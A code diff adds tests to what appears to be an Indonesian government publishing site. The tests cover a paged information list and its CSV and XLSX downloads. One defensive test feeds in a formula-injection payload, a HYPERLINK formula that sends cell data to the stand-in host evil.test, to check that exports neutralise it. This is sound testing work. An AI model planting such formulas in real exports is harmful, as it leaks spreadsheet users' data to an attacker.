@@ -195,3 +195,29 @@ def test_register_takes_a_fixed_number_of_queries(runtime, world: World) -> None
     for n in range(5):
         world.publish(world.kominfo, title=f"Lagi {n}")
     assert statements() == few
+
+
+def test_dip_page_is_paged_and_downloads_hold_everything(client, world: World,
+                                                         monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    monkeypatch.setattr("publisher.site.dip.ROWS_PER_PAGE", 1)
+    world.publish(world.kominfo, title="Baris Satu")
+    world.publish(world.kominfo, title="Baris Dua")
+    first = client.get("/o/dinas-kominfo/dip").get_data(as_text=True)
+    assert "Baris Satu" in first and "Baris Dua" not in first and "Halaman 1 dari 2" in first
+    second = client.get("/o/dinas-kominfo/dip?page=2").get_data(as_text=True)
+    assert "Baris Dua" in second and "Baris Satu" not in second
+    assert client.get("/o/dinas-kominfo/dip?page=3").status_code == 404
+    rows = list(csv.reader(io.StringIO(
+        client.get("/o/dinas-kominfo/dip.csv").data.decode("utf-8-sig"))))
+    assert [r[1] for r in rows[1:]] == ["Baris Satu", "Baris Dua"]
+
+
+def test_exports_never_turn_text_into_formulas(client, world: World) -> None:  # type: ignore[no-untyped-def]
+    attack = '=HYPERLINK("https://evil.test/?d="&A1,"klik")'
+    world.publish(world.kominfo, title=attack, summary="+SUM(1,2)", official_unit="@unit")
+    rows = list(csv.reader(io.StringIO(
+        client.get("/o/dinas-kominfo/dip.csv").data.decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + attack
+    assert rows[1][2] == "'+SUM(1,2)" and rows[1][3] == "'@unit"
+    ws = openpyxl.load_workbook(io.BytesIO(client.get("/o/dinas-kominfo/dip.xlsx").data)).active
+    assert ws["B3"].value == attack and ws["B3"].data_type == "s"
